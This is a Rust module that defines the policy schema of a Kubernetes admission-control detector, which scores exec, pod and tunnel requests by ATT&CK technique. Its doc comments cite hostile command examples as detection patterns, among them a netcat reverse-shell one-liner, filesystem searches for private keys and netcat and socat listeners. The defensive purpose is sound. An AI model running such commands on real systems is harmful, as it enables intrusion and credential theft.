//! The policy document as an admin writes it (YAML). Validation and compilation into the
//! matchers the engine uses live in `load.rs`; this module is only the shape.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

/// The whole policy document.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct PolicyDocument {
    pub api_version: String,
    pub kind: String,
    #[serde(default)]
    pub mode: ModeSpec,
    pub thresholds: Thresholds,
    #[serde(default)]
    pub exemptions: Vec<ExemptionSpec>,
    pub rules: BTreeMap<String, RuleSpec>,
    #[serde(default)]
    pub combinations: Vec<CombinationSpec>,
    /// Scores rules take for commands of some origins (a probe, an init container...).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub origins: Vec<OriginScoresSpec>,
    pub pod: PodKnowledge,
    pub exec: ExecKnowledge,
    #[serde(default)]
    pub connect: Option<ConnectKnowledge>,
    /// MITRE ATT&CK techniques the rules name: what `policy docs` groups them by.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub techniques: BTreeMap<String, TechniqueSpec>,
    /// Findings of one identity remembered across requests (per replica, or in a store the
    /// replicas share).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub correlation: Option<CorrelationSpec>,
    /// What the server's pod cache adds: the pod a request lands in, the namespace a pod joins.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub context: Option<ContextSpec>,
    /// Attack scenarios and the rules and alerts that answer each (documentation; `policy check`
    /// holds that the rules exist).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub scenarios: Vec<ScenarioSpec>,
}

/// A burst of distinct discovery techniques from one identity within a window escalates: each
/// request alone may only annotate (`ps`, then `netstat`, then `ip addr`, then `id`), the
/// sequence is reconnaissance.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct CorrelationSpec {
    #[serde(default = "yes")]
    pub enabled: bool,
    /// The rule a burst raises.
    pub rule: String,
    /// Seconds a finding is remembered.
    pub window_seconds: u64,
    /// Distinct techniques, within the window, that make a burst.
    pub distinct_techniques: usize,
    /// Findings count when their technique is filed under one of these tactics (`techniques`).
    pub tactics: Vec<String>,
    /// Seconds within which the same identity, pod, container and argv count once: kubectl 1.30
    /// and later sends one `kubectl exec` as a websocket request, then again over SPDY.
    pub duplicate_seconds: u64,
    /// Identities remembered at most; the least recently seen go first.
    pub max_identities: usize,
}

/// Judgements that need the cluster's view (`serve --pod-cache`). Without the cache, or for a
/// pod it does not know yet, these rules stay silent and the request is judged alone.
#[derive(Debug, Clone, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct ContextSpec {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub escape_adjacent: Option<EscapeAdjacentSpec>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub unexpected_creation: Option<UnexpectedCreationSpec>,
}

/// A request into a pod whose own spec reaches the node (hostPID, privileged, the host root, a
/// runtime socket) is escape-adjacent: `ps` there lists the node's processes.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct EscapeAdjacentSpec {
    #[serde(default = "yes")]
    pub enabled: bool,
    /// The rule raised, naming the target's properties.
    pub rule: String,
    /// Rules the target pod's own spec raises that make it escape-adjacent.
    pub pod_rules: Vec<String>,
    /// A request counts when one of its findings has a technique filed under these tactics...
    #[serde(default)]
    pub tactics: Vec<String>,
    /// ...or is one of these rules.
    #[serde(default)]
    pub rules: Vec<String>,
    /// Whether adding a kubectl debug container to such a pod counts by itself.
    #[serde(default)]
    pub debug: bool,
}

/// A pod a person creates where a namespace's pods are all controller-managed, or a pod created
/// with the token of a running workload: the seed's unauthorized container creation.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct UnexpectedCreationSpec {
    #[serde(default = "yes")]
    pub enabled: bool,
    pub rule: String,
    /// Running pods a namespace needs, all controller-managed, before a person's pod stands out.
    pub minimum_pods: usize,
    /// Users and service accounts (`system:serviceaccount:NS:NAME`, globs allowed) that create
    /// pods by design: CI runners, operators.
    #[serde(default)]
    pub creators: Vec<String>,
}

/// An attack scenario, mapped to the rules that detect its steps and the alerts that page.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct ScenarioSpec {
    pub id: String,
    pub name: String,
    pub summary: String,
    pub rules: Vec<String>,
    /// Alert names of the chart's PrometheusRule.
    #[serde(default)]
    pub alerts: Vec<String>,
}

/// An ATT&CK technique, as the catalogue documents it.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct TechniqueSpec {
    pub name: String,
    /// The ATT&CK tactic it is documented under here (a technique may serve several).
    pub tactic: String,
}

/// pods/portforward and the proxy subresources (CONNECT requests).
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct ConnectKnowledge {
    /// Ports of node services (kubelet, etcd, API server, runtimes, metadata servers).
    pub node_ports: Vec<u16>,
    /// A port-forward naming one of them.
    pub port_forward_rule: String,
    /// A port-forward whose ports the request does not name.
    pub unseen_ports_rule: Option<String>,
    /// A pod or service proxy whose name names one of them (`web:10250`).
    pub proxy_port_rule: String,
    pub proxy_paths: Vec<PathSpec>,
}

/// `audit` reports what would be denied without denying; `off` admits everything unexamined.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Mode {
    #[default]
    Enforce,
    Audit,
    Off,
}

/// YAML 1.1 readers (Helm among them) turn an unquoted `off` into `false`; it still means off.
impl<'de> Deserialize<'de> for Mode {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct Visitor;
        impl serde::de::Visitor<'_> for Visitor {
            type Value = Mode;
            fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
                f.write_str("enforce, audit or off")
            }
            fn visit_str<E: serde::de::Error>(self, v: &str) -> Result<Mode, E> {
                match v {
                    "enforce" => Ok(Mode::Enforce),
                    "audit" => Ok(Mode::Audit),
                    "off" => Ok(Mode::Off),
                    other => Err(E::unknown_variant(other, &["enforce", "audit", "off"])),
                }
            }
            fn visit_bool<E: serde::de::Error>(self, v: bool) -> Result<Mode, E> {
                if v {
                    Err(E::invalid_value(serde::de::Unexpected::Bool(v), &self))
                } else {
                    Ok(Mode::Off)
                }
            }
        }
        d.deserialize_any(Visitor)
    }
}

impl Mode {
    pub fn as_str(self) -> &'static str {
        match self {
            Mode::Enforce => "enforce",
            Mode::Audit => "audit",
            Mode::Off => "off",
        }
    }
}

/// The kinds of request a mode can be set for. A new subresource kind gets its own key here.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum ModeKey {
    /// Any kind the map does not name.
    Default,
    /// Pods and the pod templates of workloads.
    Pods,
    /// pods/exec and pods/attach.
    Exec,
    /// pods/ephemeralcontainers (`kubectl debug`).
    Debug,
    /// pods/portforward and the proxy subresources.
    Tunnels,
}

/// `mode: audit` (every kind) or `mode: {pods: audit, exec: enforce}`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(untagged)]
pub enum ModeSpec {
    All(Mode),
    PerKind(BTreeMap<ModeKey, Mode>),
}

impl Default for ModeSpec {
    fn default() -> Self {
        ModeSpec::All(Mode::Enforce)
    }
}

impl<'de> Deserialize<'de> for ModeSpec {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct Visitor;
        impl<'de> serde::de::Visitor<'de> for Visitor {
            type Value = ModeSpec;
            fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
                f.write_str("enforce, audit or off, or a map of them by kind (default, pods, exec, debug, tunnels)")
            }
            fn visit_str<E: serde::de::Error>(self, v: &str) -> Result<ModeSpec, E> {
                use serde::de::IntoDeserializer;
                Mode::deserialize(v.into_deserializer()).map(ModeSpec::All)
            }
            fn visit_bool<E: serde::de::Error>(self, v: bool) -> Result<ModeSpec, E> {
                use serde::de::IntoDeserializer;
                Mode::deserialize(v.into_deserializer()).map(ModeSpec::All)
            }
            fn visit_map<A: serde::de::MapAccess<'de>>(self, map: A) -> Result<ModeSpec, A::Error> {
                BTreeMap::deserialize(serde::de::value::MapAccessDeserializer::new(map))
                    .map(ModeSpec::PerKind)
            }
        }
        d.deserialize_any(Visitor)
    }
}

#[derive(Debug, Clone, Copy, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct Thresholds {
    pub annotate: u32,
    pub deny: u32,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct RuleSpec {
    pub score: u32,
    pub technique: String,
    pub message: String,
    #[serde(default = "yes")]
    pub enabled: bool,
    /// Forces a decision whenever the rule fires, whatever the total score.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub action: Option<ForcedAction>,
    // The rule's Alerting and Detection Strategy (Palantir's ADS framework): what reviewers and
    // responders read, and the examples that prove it fires. The default policy documents every
    // rule (a test holds it); a layer's own rules may leave it out, and `policy check` says so.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub priority: Option<Priority>,
    /// What the rule detects and how, in a paragraph.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub strategy: String,
    /// What it misses, and what it assumes.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub blind_spots: Vec<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub false_positives: Vec<FalsePositive>,
    /// What to do when it fires, step by step.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub response: Vec<String>,
    #[serde(default, skip_serializing_if = "Examples::is_empty")]
    pub examples: Examples,
}

/// How urgent a finding of the rule is for whoever answers the alert.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Priority {
    Low,
    Medium,
    High,
    Critical,
}

impl Priority {
    pub fn as_str(self) -> &'static str {
        match self {
            Priority::Low => "low",
            Priority::Medium => "medium",
            Priority::High => "high",
            Priority::Critical => "critical",
        }
    }
}

/// Benign activity that trips a rule, and the layer that tunes it away.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct FalsePositive {
    /// The benign case; also its key in layers.
    pub name: String,
    /// The body of a policy layer (YAML; the apiVersion and kind header is implied) that addresses
    /// it. `policy check` loads it over the policy.
    pub tuning: String,
}

/// Inputs that must raise the rule, and near misses (benign twins) that must not.
#[derive(Debug, Clone, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct Examples {
    #[serde(default)]
    pub fires: Vec<Example>,
    #[serde(default)]
    pub quiet: Vec<Example>,
}

impl Examples {
    pub fn is_empty(&self) -> bool {
        self.fires.is_empty() && self.quiet.is_empty()
    }
}

/// One request, written the short way; `crate::ads::examples` turns it into the AdmissionReview
/// the API server would send. Exactly one of `exec`, `attach`, `pod`, `debug`, `portForward` and
/// `proxy` is set.
#[derive(Debug, Clone, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct Example {
    /// Optional; the key for a layer's `remove`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub name: Option<String>,
    /// `kubectl exec POD -- ARGV...`
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub exec: Option<Vec<String>>,
    /// `kubectl attach POD`
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub attach: Option<bool>,
    /// With exec or attach: `-i`, `-t`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub stdin: Option<bool>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub tty: Option<bool>,
    /// A Pod CREATE with this pod spec.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub pod: Option<serde_json::Value>,
    /// With `pod`: the pod's annotations.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub annotations: Option<BTreeMap<String, String>>,
    /// `kubectl debug`: this ephemeral container added to a plain running pod.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub debug: Option<serde_json::Value>,
    /// `kubectl port-forward POD PORT...`; an empty list: ports the request does not name.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub port_forward: Option<Vec<u16>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub proxy: Option<ProxyExample>,
    /// Who sends the request (default `reconguard:validate`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub user: Option<String>,
    /// With exec, attach, portForward or debug: the spec of the running pod the request lands
    /// in, as the server's pod cache knows it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub target: Option<serde_json::Value>,
    /// With pod: the namespace's running pods, as the pod cache knows them.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub namespace: Option<NamespaceExample>,
    /// With pod: the running workload whose service account the requester is.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub workload: Option<String>,
}

/// A namespace's running pods, in short.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct NamespaceExample {
    pub pods: usize,
    pub managed: usize,
    #[serde(default)]
    pub creators: Vec<String>,
}

/// `kubectl get --raw /api/v1/{pods|services|nodes}/NAME/proxy/PATH`
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct ProxyExample {
    /// `pod`, `service` or `node`.
    pub target: String,
    /// The object's name, with the port when it names one (`node-1:10250`).
    pub name: String,
    #[serde(default)]
    pub path: String,
}

fn yes() -> bool {
    true
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum ForcedAction {
    Annotate,
    Deny,
}

impl ForcedAction {
    pub fn as_str(self) -> &'static str {
        match self {
            ForcedAction::Annotate => "annotate",
            ForcedAction::Deny => "deny",
        }
    }
}

pub use crate::detect::CommandOrigin;

/// The scores some rules take for commands of the given origins; a score of 0 means the rule
/// does not fire there. A rule no entry names keeps its own score everywhere.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct OriginScoresSpec {
    /// The entry's key for layers (`add` replaces, `remove` drops it).
    pub id: String,
    pub origins: Vec<CommandOrigin>,
    pub scores: BTreeMap<String, u32>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct CombinationSpec {
    /// The entry's key for layers (`add` replaces, `remove` drops it).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub id: Option<String>,
    pub rule: String,
    pub all_of: Vec<String>,
    #[serde(default)]
    pub any_of: Vec<String>,
}

/// Who or what an exemption covers. All given selectors must match; a list matches when any item
/// does. Patterns are exact unless they contain `*`, `?` or `[`.
#[derive(Debug, Clone, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct ExemptionSpec {
    pub name: String,
    #[serde(default)]
    pub namespaces: Vec<String>,
    #[serde(default)]
    pub users: Vec<String>,
    #[serde(default)]
    pub groups: Vec<String>,
    /// `namespace/name` of the service account that sends the request (the API server's
    /// `userInfo`, which the requester cannot choose), for every kind of request.
    #[serde(default)]
    pub requester_service_accounts: Vec<String>,
    /// `namespace/name` of the service account a pod runs as (`spec.serviceAccountName` of a
    /// Pod or a workload's template; never a kubectl debug). Whoever may create pods in that
    /// namespace can write the name, so the field says whose choice it is.
    #[serde(default)]
    pub pod_service_accounts: Vec<String>,
    /// The selector of earlier releases, which matched the pod's own service account for pod
    /// specs: refused on load with how to write it now (see `compile`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub service_accounts: Option<serde_json::Value>,
    /// Matched against every container image of the pod (all must match). Not used for exec and
    /// attach, whose requests do not carry the image.
    #[serde(default)]
    pub images: Vec<String>,
    #[serde(default)]
    pub pod_labels: BTreeMap<String, String>,
    /// Limit to these rules; empty means every rule (the request is allowed outright).
    #[serde(default)]
    pub rules: Vec<String>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct PodKnowledge {
    pub capabilities: BTreeMap<String, String>,
    pub host_paths: Vec<HostPathSpec>,
    pub other_host_path_rule: Option<String>,
    /// For hostPath volumes of `type: BlockDevice`, whatever the path.
    #[serde(default)]
    pub block_device_rule: Option<String>,
    /// Capabilities Pod Security Standards (baseline) allow to add.
    #[serde(default)]
    pub baseline_capabilities: Vec<String>,
    /// For added capabilities outside the baseline set without a rule of their own.
    #[serde(default)]
    pub other_capability_rule: Option<String>,
    #[serde(default)]
    pub safe_sysctls: Vec<String>,
    #[serde(default, rename = "seLinuxTypes")]
    pub selinux_types: Vec<String>,
    pub images: Vec<ImageSpec>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct HostPathSpec {
    /// The entry's key for layers (`add` replaces, `remove` drops it).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub id: Option<String>,
    pub path: String,
    pub rule: String,
    #[serde(default = "yes")]
    pub below: bool,
    #[serde(default = "yes")]
    pub above: bool,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct ImageSpec {
    /// The entry's key for layers (`add` replaces, `remove` drops it).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub id: Option<String>,
    pub rule: String,
    #[serde(default)]
    pub names: Vec<String>,
    #[serde(default)]
    pub repositories: Vec<String>,
    /// Case-insensitive substrings of the repository path (`bustakube/alpine-peirates`).
    #[serde(default)]
    pub name_contains: Vec<String>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct ExecKnowledge {
    pub programs: Vec<ProgramSpec>,
    pub paths: Vec<PathSpec>,
    pub wrappers: Vec<WrapperSpec>,
    pub shells: Vec<String>,
    pub interpreters: InterpreterSpec,
    pub code_markers: Vec<CodeMarkerSpec>,
    pub netcat: NetcatSpec,
    pub socat: SocatSpec,
    pub downloaders: Vec<String>,
    /// Programs that carry a network connection: a shell piped to or from one is a reverse or
    /// bind shell (`cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f`).
    #[serde(default)]
    pub shell_relays: Vec<String>,
    /// Programs whose arguments write to a file (`tee core_pattern`), for `paths[].writes`.
    #[serde(default)]
    pub writers: Vec<String>,
    /// Arguments that only print a version or help (`--version`): a program run with nothing
    /// else raises no program rule.
    #[serde(default)]
    pub lookup_arguments: Vec<String>,
    pub network: NetworkSpec,
    #[serde(default)]
    pub credential_search: Option<CredentialSearchSpec>,
    #[serde(default)]
    pub kubernetes_api: Option<KubernetesApiSpec>,
    #[serde(default)]
    pub toolkits: Option<ToolkitSpec>,
    pub limits: Limits,
}

/// Searching a filesystem for credentials (`grep -r 'PRIVATE KEY' /`, `find / -name id_rsa`).
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct CredentialSearchSpec {
    pub rule: String,
    /// Programs that always search a tree (find, locate, rg).
    pub searchers: Vec<String>,
    /// Programs that search a tree only with a recursive option (grep -r).
    #[serde(default)]
    pub recursive_searchers: Vec<String>,
    #[serde(default)]
    pub recursive_options: Vec<String>,
    /// Searchers whose search covers the whole filesystem whatever the arguments (locate).
    #[serde(default)]
    pub whole_filesystem: Vec<String>,
    /// Programs that only ever search for secrets (trufflehog): from a broad root, the rule.
    #[serde(default)]
    pub scanners: Vec<String>,
    /// Case-insensitive substrings that name a credential: a search for one raises the rule.
    pub terms: Vec<String>,
    /// Generic words (password, token): they raise the rule only from a broad root.
    #[serde(default)]
    pub broad_terms: Vec<String>,
    /// Roots whose search is a sweep of the filesystem (`/`, `/home`, `~`); globs allowed.
    #[serde(default)]
    pub broad_roots: Vec<String>,
}

/// Kubernetes API use from inside a pod, by client verbs and by request paths.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct KubernetesApiSpec {
    /// kubectl and its kin: `CLIENT [options] VERB [RESOURCE]`.
    pub clients: Vec<String>,
    /// Their options that take a value, so the verb is found after them.
    #[serde(default)]
    pub options_with_value: Vec<String>,
    pub verbs: Vec<KubernetesVerbSpec>,
    /// Options that make a command list objects whatever it names (`-A`, `-l`, `--all`).
    #[serde(default)]
    pub list_options: Vec<String>,
    /// API request paths in URLs, whatever the host (`/api/v1/namespaces/*/secrets`).
    #[serde(default)]
    pub requests: Vec<KubernetesRequestSpec>,
    /// Arguments that make a request a write (`-d`, `--data`, `-X`, `POST`).
    #[serde(default)]
    pub write_arguments: Vec<String>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct KubernetesVerbSpec {
    /// The entry's key for layers (`add` replaces, `remove` drops it).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub id: Option<String>,
    pub rule: String,
    pub verbs: Vec<String>,
    /// Only for these resources (`secrets`, `secret/NAME`); empty means any.
    #[serde(default)]
    pub resources: Vec<String>,
    /// `true`: only when the command names the objects (`get secret db`, `get secret/db`) and
    /// lists nothing (`listOptions`); `false`: only when it does not. Unset: either.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub named: Option<bool>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct KubernetesRequestSpec {
    /// The entry's key for layers (`add` replaces, `remove` drops it).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub id: Option<String>,
    pub rule: String,
    /// URL paths; `*` stays within one path segment.
    pub paths: Vec<String>,
    /// Only when the request writes (creates a pod, rather than lists them).
    #[serde(default)]
    pub writes: bool,
}

/// Known attack toolkits, by a name that appears in their URLs, files and packages.
#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct ToolkitSpec {
    /// Raised when a fetcher's argument names a toolkit.
    pub download_rule: String,
    /// Raised when a program whose file name contains a toolkit name runs.
    pub run_rule: String,
    /// Programs that fetch code: downloaders, git, package managers.
    pub fetchers: Vec<String>,
    /// Case-insensitive substrings.
    pub names: Vec<String>,
    /// Raised when a fetcher's argument names one of `tools`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub tool_rule: Option<String>,
    /// Scanners, sniffers and runtime clients: not attack toolkits, but bringing one into a
    /// running container (`apt install nmap`, a crictl tarball) prepares their use. Words, as
    /// `names`.
    #[serde(default)]
    pub tools: Vec<String>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct ProgramSpec {
    /// The entry's key for layers (`add` replaces, `remove` drops it).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub id: Option<String>,
    pub rule: String,
    pub names: Vec<String>,
    /// Only when one of the arguments matches one of these (globs allowed).
    #[serde(default)]
    pub when_args: Vec<String>,
    /// Only when the program has no arguments at all (`mount` lists, `mount /dev/sda1 /mnt` mounts).
    #[serde(default)]
    pub without_args: bool,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct PathSpec {
    /// The entry's key for layers (`add` replaces, `remove` drops it).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub id: Option<String>,
    pub rule: String,
    pub patterns: Vec<String>,
    /// Only when written: a redirection target or an argument of one of `exec.writers`.
    #[serde(default)]
    pub writes: bool,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct WrapperSpec {
    /// The entry's key for layers (`add` replaces, `remove` drops it).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub id: Option<String>,
    pub names: Vec<String>,
    #[serde(default)]
    pub options_with_value: Vec<String>,
    #[serde(default)]
    pub script_options: Vec<String>,
    #[serde(default)]
    pub skip: usize,
    #[serde(default)]
    pub skip_assignments: bool,
    /// `su USER -c ...`: a positional user name may precede the command.
    #[serde(default)]
    pub user_argument: bool,
    /// `eval`: the remaining arguments, joined by spaces, are a shell script.
    #[serde(default)]
    pub joins_arguments: bool,
    /// Options after which the rest is looked up, not run (`command -v docker`).
    #[serde(default)]
    pub lookup_options: Vec<String>,
    /// Options followed by a command that ends at `;` or `+` (`find -exec cmd {} ;`).
    #[serde(default)]
    pub argv_options: Vec<String>,
    /// Whether what follows the options is a command (`timeout 5 cmd`) or not (`find / -name x`).
    #[serde(default = "yes")]
    pub runs_rest: bool,
    /// With these, a script option's value is a shell command only after one of them, which is
    /// taken off (`gdb -ex '!cmd'`, `vim -c ':!cmd'`); other values are the tool's own commands.
    #[serde(default)]
    pub script_prefixes: Vec<String>,
    /// Arguments after one of these are inputs (`parallel CMD ::: a b`); with no command before
    /// it, each input is a command of its own (`parallel ::: 'cmd1' 'cmd2'`).
    #[serde(default)]
    pub input_separators: Vec<String>,
    /// Tools that build a command from standard input (`xargs`): the options naming the string
    /// that each input line replaces (`-I{}`); without one, the input is appended.
    #[serde(default)]
    pub replace_options: Vec<String>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct InterpreterSpec {
    pub names: Vec<String>,
    pub code_options: Vec<String>,
    /// Interpreters whose first positional argument is the program (`awk 'BEGIN{...}'`).
    #[serde(default)]
    pub positional_code: Vec<String>,
    /// Their options that take a value (`awk -F : -v x=1`); `-f FILE` means no inline code.
    #[serde(default)]
    pub positional_code_options: Vec<String>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct CodeMarkerSpec {
    /// The entry's key for layers (`add` replaces, `remove` drops it).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub id: Option<String>,
    pub rule: String,
    pub all_of: Vec<String>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct NetcatSpec {
    pub names: Vec<String>,
    pub scan_options: Vec<String>,
    pub exec_options: Vec<String>,
    /// Options that make it listen (`nc -l -p 4444`).
    #[serde(default)]
    pub listen_options: Vec<String>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct SocatSpec {
    pub names: Vec<String>,
    pub shell_addresses: Vec<String>,
    /// Addresses that listen (`TCP-LISTEN:4444`); compared case-insensitively.
    #[serde(default)]
    pub listen_addresses: Vec<String>,
}

#[derive(Debug, Clone, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct NetworkSpec {
    pub metadata_hosts: Vec<String>,
    pub api_server_hosts: Vec<String>,
    pub api_server_variables: Vec<String>,
    pub kubelet_ports: Vec<u16>,
    /// Environment variables that hold a cloud metadata or credentials endpoint
    /// (`$IDENTITY_ENDPOINT`, `$ECS_CONTAINER_METADATA_URI`).
    #[serde(default)]
    pub metadata_variables: Vec<String>,
    /// Wildcard DNS services whose names spell an address (`169.254.169.254.nip.io`).
    #[serde(default)]
    pub ip_embedding_domains: Vec<String>,
    /// Ports of control-plane and node services other than the kubelet (etcd, controller
    /// manager, scheduler, cAdvisor, Docker's TCP API, Tiller).
    #[serde(default)]
    pub control_plane_ports: Vec<u16>,
    pub clients: Vec<String>,
    /// Clients that resolve or ping a host but never open a connection to it: naming the API
    /// server or the metadata service is not access.
    #[serde(default)]
    pub non_connecting: Vec<String>,
}

#[derive(Debug, Clone, Copy, Deserialize, Serialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct Limits {
    /// Longest script or argument analysed.
    pub max_script_bytes: usize,
    /// Scripts inside scripts (`sh -c`, payloads, substitutions).
    pub max_depth: usize,
    /// Commands analysed per argv.
    pub max_commands: usize,
    /// Syntax nesting (compound commands, groups, substitutions, quotes) across all levels.
    pub max_nesting: usize,
    /// Work units (bytes parsed or decoded, plus a fixed cost per command) per request.
    pub max_work: u64,
}
